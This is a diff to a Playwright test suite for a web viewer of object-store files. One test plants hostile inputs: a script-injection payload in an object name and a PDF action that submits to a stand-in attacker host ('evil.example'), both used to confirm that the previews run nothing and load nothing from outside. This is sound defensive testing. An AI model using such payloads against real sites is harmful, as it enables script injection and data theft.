@@ -4,14 +4,8 @@ import type { Page } from '@playwright/test'
 import { freePorts } from '../scripts/lib/ports.ts'
 import { configOf } from '../scripts/nats/config.ts'
 import { expect, open, test, type Site } from './fixtures.ts'
+import { bucketOf, pane } from './object-utils.ts'
 import { pdf, png, wav } from './preview-files.ts'
-
-let buckets = 0
-
-async function bucketOf(site: Site): Promise<{ name: string; os: ObjectStore }> {
-  const name = `p${process.pid}_${++buckets}`
-  return { name, os: await new Objm(site.js).create(name) }
-}
 
 type Put = { name: string; type?: string; chunk?: number }
 async function put(os: ObjectStore, { name, type, chunk }: Put, data: string | Uint8Array) {
@@ -23,12 +17,17 @@ async function put(os: ObjectStore, { name, type, chunk }: Put, data: string | U
   )
 }
 
-const pane = (page: Page, name: string) => page.getByRole('region', { name: `Object ${name}`, exact: true })
 const preview = (page: Page) => page.getByRole('region', { name: 'Preview', exact: true })
 const readOf = (page: Page) => preview(page).getByRole('status', { name: 'Read of the object' })
 
 async function look(page: Page, site: Site, bucket: string, name: string) {
   await open(page, site, `/objects/${bucket}?object=${encodeURIComponent(name)}`)
+  await expect(pane(page, name)).toBeVisible()
+}
+
+/** Another of the same bucket, in the same page. */
+async function pick(page: Page, name: string) {
+  await page.getByRole('grid', { name: 'Objects' }).getByText(name, { exact: true }).click()
   await expect(pane(page, name)).toBeVisible()
 }
 
@@ -56,16 +55,16 @@ test('text, JSON and tables are shown by their beginning, and more when it is as
   await expect(preview(page).getByRole('tree', { name: 'Payload' })).toContainText('17')
   await expect(readOf(page)).toHaveText('all 38 B')
 
-  await look(page, site, name, 'long.txt')
+  await pick(page, 'long.txt')
   await expect(preview(page)).toContainText('a line of text, é ü')
   await expect(readOf(page)).toHaveText('first 256 KiB of 1.05 MiB')
   await preview(page).getByRole('button', { name: 'Read all' }).click()
   await expect(readOf(page)).toHaveText('all 1.05 MiB')
 
-  await look(page, site, name, 'empty.txt')
+  await pick(page, 'empty.txt')
   await expect(preview(page)).toContainText('The object is empty')
 
-  await look(page, site, name, 'people.csv')
+  await pick(page, 'people.csv')
   const table = preview(page).getByRole('table', { name: 'Table' })
   await expect(table.getByRole('columnheader')).toHaveText(['Row', 'name', 'city', ''])
   await expect(table.getByRole('row').nth(1)).toContainText('Müller; Anna')
@@ -74,7 +73,7 @@ test('text, JSON and tables are shown by their beginning, and more when it is as
     '2 rows, 3 columns, 1 with more or fewer cells than the first',
   )
 
-  await look(page, site, name, 'big.csv')
+  await pick(page, 'big.csv')
   await expect(preview(page).getByRole('status', { name: 'About the table' })).toContainText('rows so far, 2 columns')
   await preview(page).getByRole('button', { name: 'Read all' }).click()
   await expect(preview(page).getByRole('status', { name: 'About the table' })).toHaveText('60,000 rows, 2 columns')
@@ -82,21 +81,21 @@ test('text, JSON and tables are shown by their beginning, and more when it is as
   await page.keyboard.press('End')
   await expect(table).toContainText(String(59_999 * 59_999))
 
-  await look(page, site, name, 'bytes')
+  await pick(page, 'bytes')
   await expect(preview(page).getByLabel('Payload as hex')).toContainText('ff 00 01 02 80')
   await expect(preview(page)).toContainText('Binary data of a kind that is not known here')
 })
 
-test('looking at 50 MB of text reads less than 1 MiB, and leaves nothing behind', async ({ page, own }) => {
+test('looking at a large text reads less than 1 MiB, and leaves nothing behind', async ({ page, own }) => {
   const { site, sent } = await counted(own)
   const { name, os } = await bucketOf(site)
-  await put(os, { name: 'huge.log' }, Buffer.alloc(50_000_000, 'a line of a log\n'))
+  await put(os, { name: 'huge.log' }, Buffer.alloc(8_000_000, 'a line of a log\n'))
   const consumers = async () => (await site.jsm.streams.info(`OBJ_${name}`)).state.consumer_count
   await open(page, site, `/objects/${name}`)
   await expect(page.getByRole('grid', { name: 'Objects' })).toContainText('huge.log')
   const before = await sent()
   await page.getByRole('grid', { name: 'Objects' }).getByText('huge.log').click()
-  await expect(readOf(page)).toHaveText('first 256 KiB of 47.7 MiB')
+  await expect(readOf(page)).toHaveText('first 256 KiB of 7.63 MiB')
   expect((await sent()) - before).toBeLessThan(1024 * 1024)
   await pane(page, 'huge.log').getByRole('button', { name: 'Close the object' }).click()
   // The one that watches the bucket.
@@ -108,10 +107,12 @@ test('pictures are drawn from their bytes, also large ones and icons', async ({ 
   await put(os, { name: 'small' }, png(3, 2))
   await put(os, { name: 'large.png' }, png(1500, 1200))
   await put(os, { name: 'broken.png' }, png(30, 20).subarray(0, 40))
+  const segment = Buffer.concat([Buffer.from([0xff, 0xe1, 0xea, 0x60]), Buffer.alloc(59_998)])
+  await put(os, { name: 'late.jpg' }, Buffer.concat([Buffer.from([0xff, 0xd8]), ...Array.from({ length: 5 }, () => segment)]))
   const about = preview(page).getByRole('status', { name: 'About the picture' })
   await look(page, site, name, 'small')
   await expect(about).toHaveText('image/png, 3 × 2')
-  await look(page, site, name, 'large.png')
+  await pick(page, 'large.png')
   await preview(page).getByRole('button', { name: 'Show the picture, 1.72 MiB' }).click()
   await expect(about).toHaveText('image/png, 1500 × 1200')
   await preview(page).getByText('Actual size').click()
@@ -120,14 +121,20 @@ test('pictures are drawn from their bytes, also large ones and icons', async ({ 
       .getByRole('img')
       .evaluate((i) => i.clientWidth)
   expect(await width()).toBe(1500)
-  await look(page, site, name, 'broken.png')
+  await pick(page, 'broken.png')
+  await expect(about).toContainText('the browser cannot draw it')
+  // How large it is lies behind what is read of it.
+  await pick(page, 'late.jpg')
+  await expect(preview(page)).toContainText('How wide and high it is cannot be told from its beginning')
+  await expect(preview(page).getByRole('img')).toHaveCount(0)
+  await preview(page).getByRole('button', { name: 'Show the picture, 293 KiB' }).click()
   await expect(about).toContainText('the browser cannot draw it')
 })
 
 test('sound is played from anywhere in it without reading all', async ({ page, own }) => {
   const { site, sent } = await counted(own)
   const { name, os } = await bucketOf(site)
-  const sound = wav(120) // 21 MB
+  const sound = wav(60) // 11 MB
   await put(os, { name: 'tone.wav' }, sound)
   await put(os, { name: 'short.wav' }, wav(7))
   await put(os, { name: 'broken.wav' }, Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE'), Buffer.alloc(5000, 1)]))
@@ -144,19 +151,19 @@ test('sound is played from anywhere in it without reading all', async ({ page, o
   })
   const player = page.frameLocator('iframe[title="Player of tone.wav"]').locator('audio')
   const state = () => player.evaluate((a: HTMLAudioElement) => ({ at: a.currentTime, length: a.duration }))
-  await expect.poll(async () => Math.round((await state()).length)).toBe(120)
+  await expect.poll(async () => Math.round((await state()).length)).toBe(60)
   await player.evaluate(async (a: HTMLAudioElement) => {
     a.muted = true
-    a.currentTime = 100
+    a.currentTime = 50
     await a.play()
   })
-  await expect.poll(async () => (await state()).at).toBeGreaterThan(100.3)
-  expect((await sent()) - before).toBeLessThan(sound.length / 3)
-  await expect(preview(page).getByRole('status', { name: 'Read by the player' })).toContainText('of 20.2 MiB read so far')
+  await expect.poll(async () => (await state()).at).toBeGreaterThan(50.3)
+  expect((await sent()) - before).toBeLessThan(sound.length / 2)
+  await expect(preview(page).getByRole('status', { name: 'Read by the player' })).toContainText('of 10.1 MiB read so far')
   await page.getByRole('button', { name: 'Close the object' }).click()
   await expect.poll(async () => (await site.jsm.streams.info(`OBJ_${name}`)).state.consumer_count).toBe(1)
 
-  await look(page, site, name, 'broken.wav')
+  await pick(page, 'broken.wav')
   await preview(page).getByRole('button', { name: 'Open the player' }).click()
   await expect(preview(page).getByRole('alert')).toContainText('The browser cannot play it')
 
@@ -172,7 +179,7 @@ test('the pages of a PDF are drawn, reading what they need', async ({ page, own 
   const { site, sent } = await counted(own)
   const { name, os } = await bucketOf(site)
   await put(os, { name: 'small.pdf' }, pdf(['One', 'Two']))
-  await put(os, { name: 'large.pdf' }, pdf(['First', 'Second', 'Third'], { padding: 10_000_000 }))
+  await put(os, { name: 'large.pdf' }, pdf(['First', 'Second', 'Third'], { padding: 4_000_000 }))
   await put(os, { name: 'broken.pdf' }, '%PDF-1.4\nnothing of the kind')
   const pages = preview(page).getByRole('status', { name: 'Pages' })
   const ink = () =>
@@ -190,14 +197,14 @@ test('the pages of a PDF are drawn, reading what they need', async ({ page, own 
   await preview(page).getByRole('button', { name: 'Next page' }).click()
   await expect(pages).toHaveText('page 2 of 2')
 
-  await look(page, site, name, 'large.pdf')
+  await pick(page, 'large.pdf')
   const before = await sent()
   await preview(page).getByRole('button', { name: 'Show the pages' }).click()
   await expect(pages).toHaveText('page 1 of 3')
   expect(await ink()).toBeGreaterThan(1000)
-  expect((await sent()) - before).toBeLessThan(4_000_000)
+  expect((await sent()) - before).toBeLessThan(2_000_000)
 
-  await look(page, site, name, 'broken.pdf')
+  await pick(page, 'broken.pdf')
   await expect(preview(page).getByRole('alert')).toContainText('The document cannot be drawn')
 })
 
@@ -225,6 +232,8 @@ test('what is in an object runs nothing and asks for nothing', async ({ page, si
   await put(os, { name: 'bad.html', type: 'text/html' }, html)
   await put(os, { name: 'photo.png', type: 'image/png' }, html)
   await put(os, { name: 'song.mp3', type: 'audio/mpeg' }, html)
+  const title = '"><script>top.attacked=1</script>.wav'
+  await put(os, { name: title }, wav(2))
   await put(os, { name: 'bad.pdf' }, pdf(['Bad'], { action: 'app.alert(1); this.submitForm("https://evil.example/g")' }))
   const outside = askedOutside(page, site)
   const attacked = async () => {
@@ -240,7 +249,7 @@ test('what is in an object runs nothing and asks for nothing', async ({ page, si
   await expect(preview(page).getByRole('status', { name: 'About the picture' })).toHaveText('image/svg+xml, 40 × 30')
   await attacked()
 
-  await look(page, site, name, 'bad.html')
+  await pick(page, 'bad.html')
   await expect(preview(page)).toContainText('<!doctype html>')
   await attacked()
 
@@ -248,19 +257,36 @@ test('what is in an object runs nothing and asks for nothing', async ({ page, si
     ['photo.png', 'Its Content-Type is image/png, but its bytes are HTML: it is shown as that.'],
     ['song.mp3', 'Its Content-Type is audio/mpeg, but its bytes are HTML: it is shown as that.'],
   ] as const) {
-    await look(page, site, name, object)
+    await pick(page, object)
     await expect(preview(page).getByRole('note')).toHaveText(says)
     await expect(preview(page)).toContainText('<!doctype html>')
     await expect(preview(page).getByRole('img')).toHaveCount(0)
     await attacked()
   }
 
-  await look(page, site, name, 'bad.pdf')
+  await pick(page, 'bad.pdf')
   await expect(preview(page).getByRole('status', { name: 'Pages' })).toHaveText('page 1 of 1')
   // Its link covers the whole page.
   await preview(page).locator('canvas').click()
   await attacked()
   expect(page.context().pages()).toHaveLength(1)
+
+  // The name is part of the player's page.
+  await look(page, site, name, title)
+  const answer = page.waitForResponse(/\/preview\/[^/]+\/$/)
+  await preview(page).getByRole('button', { name: 'Open the player' }).click()
+  expect((await (await answer).allHeaders())['content-security-policy']).toBe(
+    "default-src 'none'; media-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
+  )
+  const frame = preview(page).locator('iframe').contentFrame()
+  await expect(frame.locator('audio')).toHaveAttribute('aria-label', title)
+  await expect(frame.locator('script')).toHaveCount(0)
+  await frame.locator('audio').evaluate(async (a: HTMLAudioElement) => {
+    a.muted = true
+    await a.play()
+  })
+  await expect.poll(() => frame.locator('audio').evaluate((a: HTMLAudioElement) => a.currentTime)).toBeGreaterThan(0)
+  await attacked()
 })
 
 test('links, damaged, deleted and replaced objects say what they are', async ({ page, site }) => {
@@ -302,14 +328,14 @@ test('links, damaged, deleted and replaced objects say what they are', async ({ 
     ['bad.txt', 'bad.txt is damaged: 699 of its 700 chunks are there'],
     ['all gone', 'all gone is damaged: 0 of its 1 chunks are there'],
   ] as const) {
-    await look(page, site, name, object)
+    await pick(page, object)
     await expect(preview(page).getByRole('alert')).toContainText(says)
   }
   await open(page, site, `/objects/${name}?object=gone&deleted=true`)
   await expect(pane(page, 'gone')).toContainText('This object is deleted')
   await expect(preview(page)).toHaveCount(0)
 
-  await look(page, site, name, 'all gone')
+  await pick(page, 'all gone')
   await put(os, { name: 'all gone' }, 'it is back')
   await expect(preview(page)).toContainText('it is back')
 })
